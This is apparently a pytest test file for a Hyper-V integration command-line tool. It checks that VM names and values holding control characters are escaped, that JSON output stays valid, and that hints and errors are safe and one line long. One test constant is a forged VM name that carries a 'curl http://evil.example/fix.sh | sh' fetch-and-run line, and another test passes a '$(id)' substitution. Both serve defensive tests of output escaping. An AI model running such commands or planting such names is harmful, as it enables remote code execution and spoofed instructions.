"""What a remote value, a broken install or a slip of the hand can make the
command line print: every line one line, valid JSON, a hint that can be
pasted, one-line errors with the right exit status, never a traceback."""

from __future__ import annotations

import argparse
import io
import json
import logging
import os
import pty
import re
import select
import shlex
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from rich.console import Console

from hvintegration.cli import EXIT_CODES, run
from hvintegration.cli._command import UsageError
from hvintegration.cli.commands import read_password
from hvintegration.cli.parser import build_parser
from hvintegration.cli.render import SafeWriter, dumps, lines, render
from hvintegration.errors import InvalidTargetError
from hvintegration.simulator import SimulatedHost
from hvintegration.simulator.state import edit_state
from hvintegration.transport import parse_target

# A VM name that, printed raw, would pass for lines of the command's own.
FORGED = "evil\n- Heartbeat: run this fix\n    curl http://evil.example/fix.sh | sh"
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\ud800-\udfff]")


def _run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    status = run(list(argv), out=out, err=err)
    return status, out.getvalue(), err.getvalue()


def _lab(tmp_path: Path, *names: str) -> str:
    state = tmp_path / "lab.json"
    with edit_state(state, create=SimulatedHost()) as sim:
        for name in names:
            sim.add_vm(name)
    return f"sim://?state={state}"


def _vm_id(target: str, prefix: str) -> str:
    status, out, _ = _run("-t", target, "--json", "host", "vms")
    assert status == 0
    return next(str(vm["id"]) for vm in json.loads(out) if vm["name"].startswith(prefix))


# --- lines outside tables -----------------------------------------------------------


def test_lines_escapes_each_line_and_leaves_escaped_tables_as_they_are() -> None:
    table = render([], as_json=False)
    assert lines(["a\nb", "c\x1b"]) == "a\\x0ab\nc\\x1b"
    assert lines(["x\\x1b"]) == "x\\x1b"
    assert lines([table]) == table


def test_diagnose_prints_a_newline_in_a_vm_name_as_an_escape(tmp_path: Path) -> None:
    target = _lab(tmp_path, FORGED)
    # By id for the header, by name for the remedies' command lines.
    for vm in (_vm_id(target, "evil"), FORGED):
        status, out, err = _run("-t", target, "diagnose", vm)
        assert status == 1, err
        printed = out.splitlines()
        assert printed[0].startswith("evil\\x0a- Heartbeat: run this fix\\x0a    curl")
        assert not any(line.startswith(("- Heartbeat: run", "    curl")) for line in printed)
        assert not UNSAFE.search(out)


def test_fleet_plan_prints_a_newline_in_a_vm_name_as_an_escape(tmp_path: Path) -> None:
    target = _lab(tmp_path, FORGED)
    inventory = tmp_path / "fleet.toml"
    inventory.write_text(f"[targets.hv01]\nurl = {json.dumps(target)}\n")
    policy = tmp_path / "policy.toml"
    policy.write_text('[[rule]]\nservices = { "Guest Service Interface" = true }\n')
    status, out, err = _run("fleet", "plan", str(policy), "-i", str(inventory))
    assert status == 0, err
    printed = out.splitlines()
    assert "~ hv01 evil\\x0a- Heartbeat: run this fix\\x0a    curl" in out
    assert not any(line.startswith(("- Heartbeat: run", "    curl")) for line in printed)
    # Two VMs to change and the summary: nothing more.
    assert len(printed) == 3, out


# --- JSON -------------------------------------------------------------------------


@pytest.mark.parametrize("read", [[], ["--host"]])
def test_kvp_json_with_del_and_c1_controls_is_valid_json(tmp_path: Path, read: list[str]) -> None:
    target = f"sim://?state={tmp_path / 'lab.json'}"
    value = "b\x7f\x9bc\u2028"
    status, out, _ = _run("-t", target, "--json", "host", "kvp", "demovm", "--set", f"A={value}")
    assert status == 0
    assert json.loads(out)["host"] == {"A": value}
    status, out, _ = _run("-t", target, "--json", "host", "kvp", "demovm", *read)
    assert status == 0
    assert not UNSAFE.search(out)
    data = json.loads(out)
    assert (data["host"]["A"] if not read else data[0]["value"]) == value


def test_a_lone_surrogate_is_escaped_in_tables_and_json() -> None:
    import uuid

    from hvintegration.records import VMSummary

    rows = [VMSummary("web\ud8001", uuid.UUID(int=1), "Off", 2, "", "HV01")]
    buffer = io.BytesIO()
    stream = io.TextIOWrapper(buffer, encoding="utf-8")
    print(render(rows, as_json=False), file=SafeWriter(stream))
    print(render(rows, as_json=True), file=SafeWriter(stream))
    stream.flush()
    text = buffer.getvalue().decode("utf-8")
    assert "web\\ud8001" in text
    assert json.loads(text[text.index("[") :])[0]["name"] == "web\ud8001"
    assert rows[0].to_json().encode("utf-8")
    assert json.loads(dumps({"x": "\udfff"})) == {"x": "\udfff"}


# --- the no-target hint -------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        (["host", "services", "--target="], "hvintegration --target sim:// host services)"),
        (["-vt", "", "host", "vms"], "hvintegration --target sim:// -v host vms)"),
        (["host", "vms", "--password-file", "/etc/hostname"], "sim:// host vms)"),
        (["--ask-password", "host", "vms"], "hvintegration --target sim:// host vms)"),
        (
            ["host", "disable", "it's", "$(id)", ""],
            "sim:// host disable 'it'\"'\"'s' '$(id)' '')",
        ),
        (["host", "services", "--", "-tvm"], "sim:// host services -- -tvm)"),
        (["windows", "services"], "--target 'sim://?guest=demovm' windows services)"),
    ],
)
def test_the_simulator_hint_can_be_pasted(
    monkeypatch: pytest.MonkeyPatch, argv: list[str], shown: str
) -> None:
    monkeypatch.delenv("HVINTEGRATION_TARGET", raising=False)
    monkeypatch.delenv("HVINTEGRATION_PASSWORD", raising=False)
    status, _, err = _run(*argv)
    assert status == EXIT_CODES["usage"]
    assert shown in err, err
    pasted = shlex.split(err[err.index("hvintegration --target") : err.rindex(")")])
    assert pasted.count("--target") == 1
    assert not any(w.startswith(("--password", "--ask", "--target=")) for w in pasted)


# --- exit statuses and one-line errors ---------------------------------------------


def test_a_guest_command_on_a_host_is_a_usage_error() -> None:
    status, out, err = _run("-t", "sim://", "windows", "services")
    assert (status, out) == (EXIT_CODES["usage"], "")
    assert "this target is the Hyper-V host" in err
    assert "remote command failed" not in err


def test_doctor_of_a_guest_on_a_host_is_a_usage_error() -> None:
    import asyncio

    from hvintegration.preflight import doctor

    status, out, err = _run("-t", "sim://", "doctor", "--guest")
    assert (status, out) == (EXIT_CODES["usage"], "")
    assert "this target is the Hyper-V host" in err
    with pytest.raises(InvalidTargetError):
        asyncio.run(doctor("sim://", side="guest"))


def test_the_guest_password_error_names_only_what_sets_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("HVINTEGRATION_GUEST_PASSWORD", raising=False)
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    for argv in (
        ["windows", "--vm", "demovm", "services"],
        ["diagnose", "demovm", "--direct", "A"],
    ):
        status, _, err = _run("-t", "sim://", *argv)
        assert status == EXIT_CODES["usage"]
        assert "$HVINTEGRATION_GUEST_PASSWORD" in err
        assert "--password-file" not in err


def _on_a_terminal(argv: list[str], send: bytes) -> tuple[int, bytes]:
    pid, fd = pty.fork()
    if pid == 0:
        os.execv(sys.executable, [sys.executable, "-m", "hvintegration", *argv])
    seen, sent = b"", False
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 1)
        if not ready:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
        if not sent and b"password" in seen:
            os.write(fd, send)
            sent = True
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    return os.waitstatus_to_exitcode(status), seen


@pytest.mark.parametrize(
    "argv",
    [
        ["-t", "ssh://admin@127.0.0.1:1", "--ask-password", "host", "vms"],
        ["-t", "sim://", "windows", "--vm", "demovm", "services"],
    ],
)
def test_ctrl_d_at_a_password_prompt_is_one_line(
    monkeypatch: pytest.MonkeyPatch, argv: list[str]
) -> None:
    monkeypatch.delenv("HVINTEGRATION_GUEST_PASSWORD", raising=False)
    monkeypatch.delenv("HVINTEGRATION_PASSWORD", raising=False)
    status, seen = _on_a_terminal(argv, b"\x04")
    assert status == EXIT_CODES["usage"], seen
    assert b"Traceback" not in seen
    # On a line of its own, not after the prompt.
    assert b"\nhvintegration: error: no password given" in seen


def test_a_password_file_with_a_byte_order_mark(tmp_path: Path) -> None:
    file = tmp_path / "pw.txt"
    file.write_bytes(b"\xef\xbb\xbfpw\n")
    assert read_password(file=str(file), ask=False, environment="X", prompt="p") == "pw"
    file.write_bytes(b"pw\r\nsecond\n")
    assert read_password(file=str(file), ask=False, environment="X", prompt="p") == "pw"


def test_eof_at_the_prompt_is_a_usage_error(monkeypatch: pytest.MonkeyPatch) -> None:
    def end_of_input(prompt: str) -> str:
        raise EOFError

    monkeypatch.setattr("getpass.getpass", end_of_input)
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True)
    with pytest.raises(UsageError, match="no password given"):
        read_password(file=None, ask=True, environment="HVINTEGRATION_PASSWORD", prompt="p")


# --- suggestions --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "name"),
    [
        ("sim://", "PowerShell Direct"),
        ("sim://", "rdv"),
        ("sim://?os=windows-server-2012", "Guest Service Interfac"),
    ],
)
def test_no_suggestion_of_a_name_that_would_fail_or_of_the_input(target: str, name: str) -> None:
    status, _, err = _run("-t", target, "host", "enable", "demovm", name)
    assert status == EXIT_CODES["not_found"]
    assert "did you mean" not in err, err
    assert err.count("\n") == 1


def test_an_older_host_lists_only_the_services_the_vm_has() -> None:
    _, _, err = _run("-t", "sim://?os=windows-server-2012", "host", "enable", "demovm", "hartbeat")
    assert "did you mean 'Heartbeat'?" in err
    assert "Guest Service Interface" not in err


def test_the_force_refusal_names_the_option_before_the_target() -> None:
    status, _, err = _run("-t", "sim://", "host", "disable", "demovm", "Heartbeat")
    assert status == EXIT_CODES["usage"]
    assert "without --force:" in err
    assert "force=True" not in err
    assert err.rstrip().endswith("]")


# --- broken extras, ports ------------------------------------------------------------


@pytest.mark.parametrize(
    ("package", "code", "url", "said"),
    [
        (
            "asyncssh",
            'raise ImportError("No module named cryptography.hazmat", name="cryptography")',
            "ssh://admin@127.0.0.1:1",
            "asyncssh, which is installed but unusable: it fails to import",
        ),
        ("psrp", "", "psrp://admin@127.0.0.1:1", "it has no AsyncOutOfProcConnection"),
    ],
)
def test_a_broken_extra_is_one_line_naming_it(
    tmp_path: Path, package: str, code: str, url: str, said: str
) -> None:
    (tmp_path / package).mkdir()
    (tmp_path / package / "__init__.py").write_text(code + "\n")
    extra = "ssh" if package == "asyncssh" else "psrp"
    done = subprocess.run(
        [sys.executable, "-m", "hvintegration", "-t", url, "host", "vms"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, "PYTHONPATH": str(tmp_path)},
    )
    assert done.returncode == EXIT_CODES["usage"], done.stderr
    assert done.stderr.count("\n") == 1, done.stderr
    assert said in done.stderr
    assert f"pip install --force-reinstall 'hvintegration[{extra}]'" in done.stderr


def test_ssh_port_zero_is_refused() -> None:
    with pytest.raises(InvalidTargetError, match="from 1 to 65535"):
        parse_target("ssh://u@127.0.0.1:0")
    assert parse_target("ssh://u@127.0.0.1").url == "ssh://u@127.0.0.1"


# --- verbosity, logging, output ------------------------------------------------------


def test_v_before_and_after_the_command_adds_up() -> None:
    _, _, err = _run("-v", "-t", "sim://", "host", "vms", "-v")
    assert "DEBUG" in err
    _, _, err = _run("-t", "sim://", "host", "vms", "-v")
    assert "INFO" in err
    assert "DEBUG" not in err


def test_log_records_go_through_the_progress_console() -> None:
    from hvintegration.cli import _logging_to

    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=False, width=200)
    with _logging_to(io.StringIO(), type("Args", (), {"verbose": 1})(), console):
        logging.getLogger("hvintegration.test").info("connected to x\x1b]0;t\x07")
    assert "hvintegration: INFO: connected to x\\x1b]0;t\\x07" in buffer.getvalue()


def test_a_full_disk_is_one_line_not_a_traceback() -> None:
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "hvintegration", "-t", "sim://", "host", "vms"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            check=False,
        )
    assert done.returncode == EXIT_CODES["error"]
    assert done.stderr == "hvintegration: error: cannot write the output: No space left on device\n"


# --- examples that paste --------------------------------------------------------------


def _examples() -> list[str]:
    parser = build_parser()
    found = [parser.epilog or ""]
    pending = [parser]
    while pending:
        current = pending.pop()
        for action in current._actions:
            if isinstance(action, argparse._SubParsersAction):
                for child in action.choices.values():
                    found.append(child.epilog or "")
                    pending.append(child)
    return [line.strip() for text in found for line in text.splitlines()[1:] if line.strip()]


def test_every_example_quotes_what_a_shell_would_expand() -> None:
    examples = _examples()
    assert any("psrp://" in example for example in examples)
    for example in examples:
        for word in shlex.split(example):
            if any(c in word for c in "?*[\\"):
                name, equals, value = word.partition("=")
                quoted = [shlex.quote(word), f'"{word}"']
                if equals and name.isupper():  # VAR='value' before a command
                    quoted.append(f"{name}={shlex.quote(value)}")
                assert any(form in example for form in quoted), example


# --- names and URLs ------------------------------------------------------------------


def test_a_line_break_in_a_vm_name_does_not_invent_vms(tmp_path: Path) -> None:
    target = _lab(tmp_path, "evil\r\nFAKE\nrow", "50%0A")
    status, _, err = _run("-t", target, "host", "services", "FAKEE")
    assert status == EXIT_CODES["not_found"]
    assert "known: 50%0A, demovm, evil\\x0d\\x0aFAKE\\x0arow)" in err, err


def test_the_error_mapping_decodes_what_the_scripts_encode() -> None:
    from hvintegration.errors import VMNotFoundError
    from hvintegration.simulator.behaviour import known_vm_names
    from hvintegration.simulator.world import SimulatedVM
    from hvintegration.transport.base import ErrorRecord
    from hvintegration.transport.errormap import error_from_record

    names = ["a\nb", "c\rd", "50%25", "plain"]
    record = ErrorRecord(
        "not found",
        error_id="HvIntegration.VMNotFound",
        details=known_vm_names([SimulatedVM(name) for name in names]),
    )
    error = error_from_record(record, target="sim://", operation="list_vms", name="x")
    assert isinstance(error, VMNotFoundError)
    assert list(error.choices) == names


def test_linux_daemon_names_listed_are_every_name_accepted() -> None:
    status, _, err = _run("-t", "sim-linux://", "linux", "start", "nosuch")
    assert status == EXIT_CODES["not_found"]
    listed = err[err.index("(valid: ") + 8 : err.index(")")].split(", ")
    assert "hv_fcopy_daemon" in listed
    for name in listed:
        assert _run("-t", "sim-linux://", "linux", "start", name)[0] == 0, name


def test_a_windows_only_service_is_not_said_to_be_served_by_hv_utils() -> None:
    _, _, err = _run("-t", "sim-linux://", "linux", "start", "Remote Desktop Virtualization")
    assert "Windows guests only" in err
    assert "hv_utils" not in err
    _, _, err = _run("-t", "sim-linux://", "linux", "start", "Heartbeat")
    assert "the hv_utils driver serves it" in err


@pytest.mark.parametrize("url", ["sim://lab]1", "ssh://admin@hv[01", "psrp://admin:p]w@hv01"])
def test_a_stray_bracket_in_a_url_is_named(url: str) -> None:
    status, out, err = _run("-t", url, "host", "vms")
    assert (status, out) == (EXIT_CODES["usage"], "")
    assert "holds '[' or ']'" in err
    assert "IPv6 URL" not in err
    assert "p]w" not in err


def test_a_password_with_at_and_question_mark_is_ambiguous() -> None:
    with pytest.raises(InvalidTargetError, match="ambiguous") as caught:
        parse_target("ssh://admin:Sec@ret?shell=cmd@host")
    assert "Sec" not in str(caught.value)
    assert parse_target("ssh://admin:Sec%40ret%3Fshell=cmd@host").host == "host"  # type: ignore[attr-defined]
    assert parse_target("ssh://admin@hv01?key=/home/a@corp/id_ed25519").host == "hv01"  # type: ignore[attr-defined]


@pytest.mark.skipif(shutil.which("tcsh") is None, reason="tcsh is not installed")
def test_the_tcsh_script_works_as_the_docs_say(tmp_path: Path) -> None:
    script = tmp_path / "hvintegration.tcsh"
    status, out, _ = _run("completion", "tcsh")
    assert status == 0
    script.write_text(out)
    done = subprocess.run(
        ["tcsh", "-f", "-c", f"source {script}; complete hvintegration"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "host" in done.stdout
    assert "--ask-password" in done.stdout or "ask-password" in done.stdout
    readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
    assert "`tcsh`)" not in readme  # no eval "$(...)" for tcsh
    assert "`source` it" in readme


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("sim://?vms=abc", "sim:// vms 'abc': give a whole number from 0 to 10000"),
        ("sim://?latency=abc", "sim:// latency 'abc': give a number of seconds from 0 to 60"),
        ("sim-linux://?latency=x", "sim-linux:// latency 'x': give a number of seconds"),
    ],
)
def test_a_bad_simulator_number_names_its_option(url: str, said: str) -> None:
    argv = ["linux", "status"] if url.startswith("sim-linux") else ["host", "vms"]
    status, _, err = _run("-t", url, *argv)
    assert status == EXIT_CODES["usage"]
    assert said in err
    assert "invalid literal" not in err
    assert "could not convert" not in err
